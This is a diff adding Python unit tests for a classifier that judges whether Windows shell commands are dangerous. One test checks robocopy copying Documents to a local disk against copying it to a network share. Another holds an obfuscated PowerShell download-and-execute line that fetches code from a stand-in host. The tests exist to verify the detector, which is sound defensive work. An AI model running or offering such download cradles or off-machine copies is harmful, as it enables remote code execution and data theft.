@@ -64,3 +64,16 @@ def test_more_commands_than_are_judged() -> None:
 
 def test_what_is_only_tried() -> None:
     assert not is_dangerous(judge_command("Remove-Item C:\\a -Recurse -WhatIf"))
+
+
+def test_copies_stay_on_this_machine() -> None:
+    """A letter is a disk, and what follows a slash is an option; a share is another machine."""
+    documents = r"robocopy C:\Users\a\Documents "
+    assert not is_dangerous(judge_command(documents + r"D:\Documents /E /R:2 /LOG:D:\b.log"))
+    assert is_dangerous(judge_command(documents + r"\\files\a /E /R:2"))
+
+
+def test_what_runs_between_short_texts() -> None:
+    """What stands between two quoted texts is no text itself."""
+    run = "$c = New-Object 'Net.WebClient'; & ([scriptblock]::Create($c.$w.Invoke('http://e.example')))"
+    assert is_dangerous(judge_command("$w = 'Down' + 'loadString'; " + run))
